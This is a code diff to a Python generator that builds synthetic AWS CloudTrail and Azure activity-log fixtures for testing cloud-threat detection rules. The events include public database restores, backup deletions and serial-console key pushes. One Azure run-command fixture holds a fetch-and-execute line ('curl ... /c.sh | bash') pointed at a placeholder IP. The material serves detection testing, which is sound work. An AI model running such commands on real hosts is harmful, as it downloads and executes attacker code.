@@ -236,7 +236,8 @@ class Ctx:
             return ("Boto3/1.35.36 md/Botocore#1.35.36 ua/2.0 os/macos#23.6.0 md/arch#arm64 lang/python#3.12.6 "
                     "md/pyimpl#CPython cfg/retry-mode#legacy Botocore/1.35.36")
         if style == "terraform":
-            api = {"ec2": "ec2#1.186.0", "rds": "rds#1.87.3", "rbin": "rbin#1.20.3"}[service]
+            api = {"ec2": "ec2#1.186.0", "rds": "rds#1.87.3", "rbin": "rbin#1.20.3",
+                   "ec2-instance-connect": "ec2instanceconnect#1.25.3"}[service]
             return ("APN/1.0 HashiCorp/1.0 Terraform/1.9.8 (+https://www.terraform.io) terraform-provider-aws/5.72.1 "
                     "(+https://registry.terraform.io/providers/hashicorp/aws) aws-sdk-go-v2/1.32.2 ua/2.1 os/linux "
                     f"lang/go#1.23.2 md/GOOS#linux md/GOARCH#amd64 api/{api}")
@@ -251,7 +252,7 @@ class Ctx:
         return epoch_ms(self.t + dt.timedelta(seconds=delta))
 
 
-EVENT_VERSION = {"ec2": "1.10", "rds": "1.08", "rbin": "1.08"}
+EVENT_VERSION = {"ec2": "1.10", "rds": "1.08", "rbin": "1.08", "ec2-instance-connect": "1.08"}
 
 
 def ct_record(ctx: Ctx, service: str, name: str, req, resp, error: tuple[str, str] | None = None) -> dict:
@@ -1016,6 +1017,10 @@ def b_db_cluster_snapshot_attr(ctx, row, look):
     ident = "billing-aurora-manual-20261002"
     values = [OWN if look else EXT]
     req = {"dBClusterSnapshotIdentifier": ident, "attributeName": "restore", "valuesToAdd": values}
+    if row == "aws.rds.db_cluster_snapshot_public":
+        values = [] if look else ["all"]
+        key = "valuesToRemove" if look else "valuesToAdd"
+        req = {"dBClusterSnapshotIdentifier": ident, "attributeName": "restore", key: ["all"]}
     resp = {"dBClusterSnapshotIdentifier": ident,
             "dBClusterSnapshotAttributes": [{"attributeName": "restore", "attributeValues": values}]}
     return ("rds", "ModifyDBClusterSnapshotAttribute", req, resp,
@@ -1066,10 +1071,12 @@ def b_copy_db_snapshot(ctx, row, look):
 
 def b_restore_instance(ctx, row, look):
     inst, snap = "orders-restore-tmp", "orders-prod-manual-20261001"
+    # Issue 14: the public restore is its own row; the catch-all row's fixture restores privately.
+    public = row == "aws.rds.restore_db_instance_public" and not look
     req = {"dBInstanceIdentifier": inst, "dBSnapshotIdentifier": snap, "dBInstanceClass": "db.t3.large",
-           "dBSubnetGroupName": "db-public", "publiclyAccessible": True,
+           "dBSubnetGroupName": "db-public" if public else "db-private", "publiclyAccessible": public,
            "vpcSecurityGroupIds": [rid("sg", "db-open")], "deletionProtection": False}
-    resp = db_instance(ctx, inst, "creating", dBInstanceClass="db.t3.large", publiclyAccessible=True,
+    resp = db_instance(ctx, inst, "creating", dBInstanceClass="db.t3.large", publiclyAccessible=public,
                        deletionProtection=False,
                        vpcSecurityGroups=[{"vpcSecurityGroupId": rid("sg", "db-open"), "status": "active"}])
     return "rds", "RestoreDBInstanceFromDBSnapshot", req, resp, f"arn:aws:rds:{ctx.region}:{OWN}:db:{inst}"
@@ -1079,6 +1086,8 @@ def b_restore_cluster(ctx, row, look):
     cl, snap = "billing-restore-tmp", "billing-aurora-manual-20261002"
     req = {"dBClusterIdentifier": cl, "snapshotIdentifier": snap, "engine": "aurora-postgresql",
            "engineVersion": "16.4", "dBSubnetGroupName": "db-private", "vpcSecurityGroupIds": [rid("sg", "db")]}
+    if row == "aws.rds.restore_db_cluster_public":  # Multi-AZ DB cluster restore with public access
+        req.update({"engine": "postgres", "dBClusterInstanceClass": "db.m6gd.large", "publiclyAccessible": not look})
     return ("rds", "RestoreDBClusterFromSnapshot", req, db_cluster(ctx, cl, "creating"),
             f"arn:aws:rds:{ctx.region}:{OWN}:cluster:{cl}")
 
@@ -1091,7 +1100,12 @@ def b_delete_db_snapshot(ctx, row, look):
 
 def b_delete_db_instance(ctx, row, look):
     inst = "reporting-replica"
-    req = {"dBInstanceIdentifier": inst, "skipFinalSnapshot": True, "deleteAutomatedBackups": True}
+    # Issue 14: deletes without a final snapshot or with the backups are rows of their own.
+    skip = row == "aws.rds.delete_db_instance_no_final_snapshot" and not look
+    drop = row == "aws.rds.delete_db_instance_drop_backups" and not look
+    req = {"dBInstanceIdentifier": inst, "skipFinalSnapshot": skip, "deleteAutomatedBackups": drop}
+    if not skip:
+        req["finalDBSnapshotIdentifier"] = f"{inst}-final-{ctx.t:%Y%m%d}"
     return ("rds", "DeleteDBInstance", req, db_instance(ctx, inst, "deleting", deletionProtection=False),
             f"arn:aws:rds:{ctx.region}:{OWN}:db:{inst}")
 
@@ -1183,6 +1197,197 @@ AWS_BUILDERS = {
     "aws.rds.instance_made_public": lambda c, r, l: b_modify_db(c, r, l, "publiclyAccessible"),
 }
 
+# ------------------------------------------------------------------------------------------------
+# Issue 14: rows that close the gaps against the community rules. Their fixtures live in
+# September 2026 (see gen_fixtures), so the October files above keep their bytes.
+# ------------------------------------------------------------------------------------------------
+
+def b_run_instances_gpu(ctx, row, look):
+    return run_instances(ctx, row, 1, "m6i.2xlarge" if look else "g4dn.12xlarge", "required", "ml-train-01")
+
+
+def b_run_scheduled(ctx, row, look):
+    sci = "sci-" + hx("sci", row, n=20)
+    spec = {"imageId": rid("ami", row), "instanceType": "c5.xlarge",
+            "networkInterfaces": [{"deviceIndex": 0, "subnetId": rid("subnet", "prod-a")}]}
+    req = {"scheduledInstanceId": sci, "instanceCount": 1, "launchSpecification": spec,
+           "clientToken": uid(ctx.key, "clientToken")}
+    resp = ec2_ok(ctx, instanceIdSet={"items": [{"instanceId": rid("i", row, "sched")}]})
+    return "ec2", "RunScheduledInstances", req, resp, ec2_arn(ctx, "instance", "*")
+
+
+def b_imds_hop(ctx, row, look):
+    iid = rid("i", row)
+    hops = 1 if look else 3
+    req = {"instanceId": iid, "httpTokens": "required", "httpPutResponseHopLimit": hops}
+    opts = {**imds_options("required"), "httpPutResponseHopLimit": hops}
+    return ("ec2", "ModifyInstanceMetadataOptions", req, ec2_ok(ctx, instanceId=iid, instanceMetadataOptions=opts),
+            ec2_arn(ctx, "instance", iid))
+
+
+def b_imds_other(ctx, row, look):
+    iid = rid("i", row)
+    req = {"instanceId": iid, "instanceMetadataTags": "enabled", "httpEndpoint": "enabled"}
+    opts = {**imds_options("required"), "httpPutResponseHopLimit": 1, "instanceMetadataTags": "enabled"}
+    return ("ec2", "ModifyInstanceMetadataOptions", req, ec2_ok(ctx, instanceId=iid, instanceMetadataOptions=opts),
+            ec2_arn(ctx, "instance", iid))
+
+
+def b_disassociate_profile(ctx, row, look):
+    iid, assoc = rid("i", row), rid("iip-assoc", row)
+    req = {"DisassociateIamInstanceProfileRequest": {"AssociationId": assoc}}
+    resp = ec2_wrapped(ctx, "DisassociateIamInstanceProfile", iamInstanceProfileAssociation={
+        "associationId": assoc, "instanceId": iid, "state": "disassociating",
+        "iamInstanceProfile": {"arn": f"arn:aws:iam::{OWN}:instance-profile/app-instance-profile",
+                               "id": "AIPA" + b32("ip", "app-instance-profile", n=17)}})
+    return "ec2", "DisassociateIamInstanceProfile", req, resp, ec2_arn(ctx, "instance", iid)
+
+
+def b_reset_attribute(ctx, row, look):
+    iid = rid("i", row)
+    return ("ec2", "ResetInstanceAttribute", {"instanceId": iid, "attribute": "sourceDestCheck"},
+            ec2_ok(ctx, _return=True), ec2_arn(ctx, "instance", iid))
+
+
+def b_serial_key(ctx, row, look):
+    """Shape of the Stratus ec2-serial-console-send-ssh-public-key capture."""
+    iid = rid("i", row)
+    req = {"instanceId": iid, "monitorMode": False, "serialPort": 0,
+           "sSHPublicKey": "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAI" + b64("sshkey", row, n=43)}
+    resp = {"requestId": ctx.request_id, "success": True}
+    return "ec2-instance-connect", "SendSerialConsoleSSHPublicKey", req, resp, ec2_arn(ctx, "instance", iid)
+
+
+def b_import_instance(ctx, row, look):
+    task = "import-i-" + hx("task", row, n=8)
+    req = {"description": "legacy erp vm", "platform": "Windows",
+           "launchSpecification": {"architecture": "x86_64", "instanceType": "m5.large",
+                                   "subnetId": rid("subnet", "prod-a")},
+           "diskImageSet": {"items": [{"image": {"format": "VMDK", "bytes": 42949672960,
+                                                 "importManifestUrl": "https://vm-import-drop-7c1e.s3.amazonaws.com/erp.vmdk.manifest.xml"}}]}}
+    resp = ec2_ok(ctx, conversionTask={"conversionTaskId": task, "state": "active",
+                                       "importInstance": {"platform": "Windows", "volumes": {}}})
+    return "ec2", "ImportInstance", req, resp, ec2_arn(ctx, "instance", "*")
+
+
+def b_restore_image_task(ctx, row, look):
+    req = {"CreateRestoreImageTaskRequest": {"Bucket": "ami-archive-4f2a", "ObjectKey": "ami-0c2f9d1e7b3a64e58.bin",
+                                             "Name": "restored-golden"}}
+    resp = ec2_wrapped(ctx, "CreateRestoreImageTask", imageId=rid("ami", row))
+    return "ec2", "CreateRestoreImageTask", req, resp, ec2_arn(ctx, "image", "*")
+
+
+def b_bundle_instance(ctx, row, look):
+    iid = rid("i", row)
+    storage = {"S3": {"bucket": "win-bundles-9d3e", "prefix": "erp01", "aWSAccessKeyId": "AKIA" + b32("bundle", n=16)}}
+    resp = ec2_ok(ctx, bundleInstanceTask={"instanceId": iid, "bundleId": "bun-" + hx("bun", row, n=8),
+                                           "state": "pending", "progress": "0%", "storage": {"S3": {"bucket": "win-bundles-9d3e", "prefix": "erp01"}}})
+    return "ec2", "BundleInstance", {"instanceId": iid, "storage": storage}, resp, ec2_arn(ctx, "instance", iid)
+
+
+def b_copy_db_cluster_snapshot(ctx, row, look):
+    target, cl = "billing-aurora-copy-0905", "billing-aurora"
+    src_id = "rds:billing-aurora-2026-09-05-03-12"
+    src = src_id if look else f"arn:aws:rds:{other_region(ctx.region)}:{OWN}:cluster-snapshot:{src_id}"
+    req = {"sourceDBClusterSnapshotIdentifier": src, "targetDBClusterSnapshotIdentifier": target, "copyTags": True}
+    return ("rds", "CopyDBClusterSnapshot", req, db_cluster_snapshot(ctx, target, cl, "copying"),
+            f"arn:aws:rds:{ctx.region}:{OWN}:cluster-snapshot:{target}")
+
+
+def b_restore_from_s3(ctx, row, look):
+    inst = "erp-import-tmp"
+    req = {"dBInstanceIdentifier": inst, "dBInstanceClass": "db.r6g.large", "engine": "mysql", "allocatedStorage": 200,
+           "masterUsername": "admin", "sourceEngine": "mysql", "sourceEngineVersion": "8.0.36",
+           "s3BucketName": "db-dumps-2b7f", "s3Prefix": "erp/", "s3IngestionRoleArn": f"arn:aws:iam::{OWN}:role/rds-s3-import"}
+    return ("rds", "RestoreDBInstanceFromS3", req, db_instance(ctx, inst, "creating", engine="mysql"),
+            f"arn:aws:rds:{ctx.region}:{OWN}:db:{inst}")
+
+
+def b_create_db_instance(ctx, row, look):
+    inst = "analytics-scratch"
+    req = {"dBInstanceIdentifier": inst, "dBInstanceClass": "db.t4g.large", "engine": "postgres", "allocatedStorage": 50,
+           "masterUsername": "pgadmin", "publiclyAccessible": not look, "dBSubnetGroupName": "db-public",
+           "vpcSecurityGroupIds": [rid("sg", "db-open")], "storageEncrypted": True}
+    return ("rds", "CreateDBInstance", req, db_instance(ctx, inst, "creating", publiclyAccessible=not look),
+            f"arn:aws:rds:{ctx.region}:{OWN}:db:{inst}")
+
+
+def b_create_db_cluster(ctx, row, look):
+    cl = "events-maz"
+    req = {"dBClusterIdentifier": cl, "engine": "postgres", "dBClusterInstanceClass": "db.m6gd.large",
+           "storageType": "io1", "iops": 1000, "allocatedStorage": 100, "masterUsername": "pgadmin",
+           "publiclyAccessible": not look, "dBSubnetGroupName": "db-public"}
+    return ("rds", "CreateDBCluster", req, db_cluster(ctx, cl, "creating"), f"arn:aws:rds:{ctx.region}:{OWN}:cluster:{cl}")
+
+
+def b_delete_db_cluster_snapshot(ctx, row, look):
+    ident = "billing-aurora-manual-20260801"
+    return ("rds", "DeleteDBClusterSnapshot", {"dBClusterSnapshotIdentifier": ident},
+            db_cluster_snapshot(ctx, ident, "billing-aurora", "deleted"),
+            f"arn:aws:rds:{ctx.region}:{OWN}:cluster-snapshot:{ident}")
+
+
+def b_delete_automated_backup(ctx, row, look, cluster):
+    if cluster:
+        rid_ = "cluster-" + b32("dbc", row, n=26)
+        req = {"dbClusterResourceId": rid_}
+        resp = {"dBClusterIdentifier": "billing-aurora", "dbClusterResourceId": rid_, "status": "deleting",
+                "engine": "aurora-postgresql", "region": ctx.region}
+        return "rds", "DeleteDBClusterAutomatedBackup", req, resp, f"arn:aws:rds:{ctx.region}:{OWN}:cluster-auto-backup:{rid_}"
+    rid_ = "db-" + b32("dbi", row, n=26)
+    resp = {"dBInstanceIdentifier": "reporting-replica", "dbiResourceId": rid_, "status": "deleting",
+            "engine": "postgres", "region": ctx.region, "backupRetentionPeriod": 7}
+    return "rds", "DeleteDBInstanceAutomatedBackup", {"dbiResourceId": rid_}, resp, f"arn:aws:rds:{ctx.region}:{OWN}:auto-backup:{rid_}"
+
+
+def b_delete_global_cluster(ctx, row, look):
+    g = "billing-global"
+    resp = {"globalClusterIdentifier": g, "globalClusterArn": f"arn:aws:rds::{OWN}:global-cluster:{g}",
+            "status": "deleting", "engine": "aurora-postgresql", "globalClusterMembers": []}
+    return "rds", "DeleteGlobalCluster", {"globalClusterIdentifier": g}, resp, f"arn:aws:rds::{OWN}:global-cluster:{g}"
+
+
+def b_modify_cluster(ctx, row, look, field):
+    cl = "events-maz"
+    value = bool(look) if field == "deletionProtection" else not look
+    req = {"dBClusterIdentifier": cl, field: value, "applyImmediately": True}
+    return "rds", "ModifyDBCluster", req, db_cluster(ctx, cl, "available"), f"arn:aws:rds:{ctx.region}:{OWN}:cluster:{cl}"
+
+
+GAP_BUILDERS = {
+    "aws.ec2.run_instances_gpu": b_run_instances_gpu,
+    "aws.ec2.run_scheduled_instances": b_run_scheduled,
+    "aws.ec2.imds_hop_limit_raised": b_imds_hop,
+    "aws.ec2.modify_instance_metadata_options": b_imds_other,
+    "aws.ec2.disassociate_instance_profile": b_disassociate_profile,
+    "aws.ec2.reset_instance_attribute": b_reset_attribute,
+    "aws.ec2.serial_console_ssh_key_sent": b_serial_key,
+    "aws.ec2.import_instance": b_import_instance,
+    "aws.ec2.create_restore_image_task": b_restore_image_task,
+    "aws.ec2.bundle_instance": b_bundle_instance,
+    "aws.rds.db_cluster_snapshot_public": b_db_cluster_snapshot_attr,
+    "aws.rds.copy_db_cluster_snapshot_cross_region": b_copy_db_cluster_snapshot,
+    "aws.rds.restore_db_instance_public": b_restore_instance,
+    "aws.rds.restore_db_cluster_public": b_restore_cluster,
+    "aws.rds.restore_db_instance_from_s3": b_restore_from_s3,
+    "aws.rds.create_db_instance_public": b_create_db_instance,
+    "aws.rds.create_db_cluster_public": b_create_db_cluster,
+    "aws.rds.delete_db_cluster_snapshot": b_delete_db_cluster_snapshot,
+    "aws.rds.delete_db_instance_automated_backup": lambda c, r, l: b_delete_automated_backup(c, r, l, False),
+    "aws.rds.delete_db_cluster_automated_backup": lambda c, r, l: b_delete_automated_backup(c, r, l, True),
+    "aws.rds.delete_db_instance_no_final_snapshot": b_delete_db_instance,
+    "aws.rds.delete_db_instance_drop_backups": b_delete_db_instance,
+    "aws.rds.delete_global_cluster": b_delete_global_cluster,
+    "aws.rds.cluster_deletion_protection_disabled": lambda c, r, l: b_modify_cluster(c, r, l, "deletionProtection"),
+    "aws.rds.cluster_made_public": lambda c, r, l: b_modify_cluster(c, r, l, "publiclyAccessible"),
+}
+AWS_BUILDERS.update(GAP_BUILDERS)
+GAP_AZURE = {"azure.compute.vm_extension_remote_exec", "azure.compute.vmss_vm_managed_run_command_write",
+             "azure.compute.vmss_extension_delete", "azure.compute.vm_boot_diagnostics_retrieved",
+             "azure.serialconsole.connect"}
+GAP_ROWS = set(GAP_BUILDERS) | GAP_AZURE
+
+
 SERVICE_EVENT_ROWS = {"aws.ec2.shared_snapshot_copy_initiated": "SharedSnapshotCopyInitiated",
                       "aws.ec2.shared_snapshot_volume_created": "SharedSnapshotVolumeCreated"}
 
@@ -1233,10 +1438,12 @@ def build_aws(row_id: str, ctx: Ctx, look: bool, error_kind: str | None) -> dict
 # time / principal slots
 # ------------------------------------------------------------------------------------------------
 
-def slot_time(k: int, n: int, hour: int, key: str) -> dt.datetime:
-    """File k of n: its own day in October 2026; a principal's files are >24 h apart."""
-    day = 1 + (k * 31) // n
-    return dt.datetime(2026, 10, day, hour, day, num(key, "sec", mod=60), tzinfo=UTC)
+def slot_time(k: int, n: int, hour: int, key: str, month: int = 10) -> dt.datetime:
+    """File k of n: its own day in October 2026 (September for the issue-14 rows); a principal's
+    files are >24 h apart."""
+    days = 31 if month == 10 else 28  # September files end 2+ days before October's
+    day = 1 + (k * days) // n
+    return dt.datetime(2026, month, day, hour, day, num(key, "sec", mod=60), tzinfo=UTC)
 
 
 # ------------------------------------------------------------------------------------------------
@@ -1465,12 +1672,28 @@ def az_spec(row_id: str):
         "azure.compute.vm_capture": (rg_build, "virtualMachines/vm-golden-01",
                                      {"vhdPrefix": "golden", "destinationContainerName": "vhds", "overwriteVhds": True},
                                      "lro", conflict("OperationNotAllowed", "Capture operation cannot be completed because the VM is not generalized.")),
-        "azure.compute.vm_extension_write": (rg_web, "virtualMachines/vm-web-02/extensions/CustomScript",
+        # Issue 14: remote-execution extensions are their own row; this one installs a monitoring agent.
+        "azure.compute.vm_extension_write": (rg_web, "virtualMachines/vm-web-02/extensions/AzureMonitorLinuxAgent",
+                                             {"location": "westeurope", "properties": {
+                                                 "publisher": "Microsoft.Azure.Monitor", "type": "AzureMonitorLinuxAgent",
+                                                 "typeHandlerVersion": "1.33", "autoUpgradeMinorVersion": True,
+                                                 "enableAutomaticUpgrade": True}},
+                                             "sync_created", "forbidden"),
+        "azure.compute.vm_extension_remote_exec": (rg_web, "virtualMachines/vm-web-02/extensions/CustomScript",
                                              {"location": "westeurope", "properties": {
                                                  "publisher": "Microsoft.Azure.Extensions", "type": "CustomScript",
                                                  "typeHandlerVersion": "2.1", "autoUpgradeMinorVersion": True,
                                                  "settings": {"fileUris": ["https://stdeployartifacts01.blob.core.windows.net/scripts/bootstrap.sh"]}}},
                                              "sync_created", "forbidden"),
+        "azure.compute.vmss_vm_managed_run_command_write": (rg_batch, "virtualMachineScaleSets/vmss-batch-gpu/virtualMachines/1/runCommands/rc-collect",
+                                                            {"location": "westeurope", "properties": {"source": {"script": "curl -fsSL http://203.0.113.50/c.sh | bash"},
+                                                                                                      "asyncExecution": True}},
+                                                            "sync_created", "forbidden"),
+        "azure.compute.vmss_extension_delete": (rg_batch, "virtualMachineScaleSets/vmss-batch-cpu/extensions/MDE.Linux", None, "lro",
+                                                conflict("OperationNotAllowed", "Cannot delete extension MDE.Linux while a scale set upgrade is in progress.")),
+        "azure.compute.vm_boot_diagnostics_retrieved": (rg_data, "virtualMachines/vm-sql01", None, "sync_ok", "forbidden"),
+        "azure.serialconsole.connect": (rg_web, "virtualMachines/vm-web-01/providers/Microsoft.SerialConsole/serialPorts/0",
+                                        None, "sync_ok", "forbidden"),
         "azure.compute.vmss_write": (rg_batch, "virtualMachineScaleSets/vmss-batch-gpu",
                                      {"location": "westeurope", "sku": {"name": "Standard_NC24ads_A100_v4", "tier": "Standard", "capacity": 8},
                                       "properties": {"upgradePolicy": {"mode": "Manual"}, "orchestrationMode": "Uniform",
@@ -1594,6 +1817,12 @@ def azure_op_records(key: str, row_op: str, cname: str, t: dt.datetime, style: s
 # ------------------------------------------------------------------------------------------------
 
 def gen_fixtures(catalog: list[dict]) -> dict:
+    built = gen_fixtures_month([r for r in catalog if r["id"] not in GAP_ROWS], 10)
+    built.update(gen_fixtures_month([r for r in catalog if r["id"] in GAP_ROWS], 9))
+    return built
+
+
+def gen_fixtures_month(catalog: list[dict], month: int) -> dict:
     aws_rows = [r for r in catalog if r["cloud"] == "aws"]
     az_rows = [r for r in catalog if r["cloud"] == "azure"]
     built = {}
@@ -1608,7 +1837,7 @@ def gen_fixtures(catalog: list[dict]) -> dict:
         row_id = row["id"]
         pname = "root" if path in AWS_ROOT_FILES else AWS_POOL[k % len(AWS_POOL)]
         region = REGIONS[num(path, "region", mod=len(REGIONS))]
-        t = slot_time(k, n, AWS_PRINCIPALS[pname]["hour"], path)
+        t = slot_time(k, n, AWS_PRINCIPALS[pname]["hour"], path, month)
         if row_id in SERVICE_EVENT_ROWS:
             t = slot_time(k, n, 6, path)  # the copying account gets its own hour: >24 h between its events
             actor = OWN if is_neg else EXT
@@ -1630,7 +1859,7 @@ def gen_fixtures(catalog: list[dict]) -> dict:
     n = len(files)
     for k, (row, path, is_neg) in enumerate(files):
         cname = AZ_POOL[k % len(AZ_POOL)]
-        t = slot_time(k, n, AZ_CALLERS[cname]["hour"], path)
+        t = slot_time(k, n, AZ_CALLERS[cname]["hour"], path, month)
         style = "new" if k % 3 != 1 else "old"
         rg, res, body, phases, failure = az_spec(row["id"])
         op_name = row["operation"]
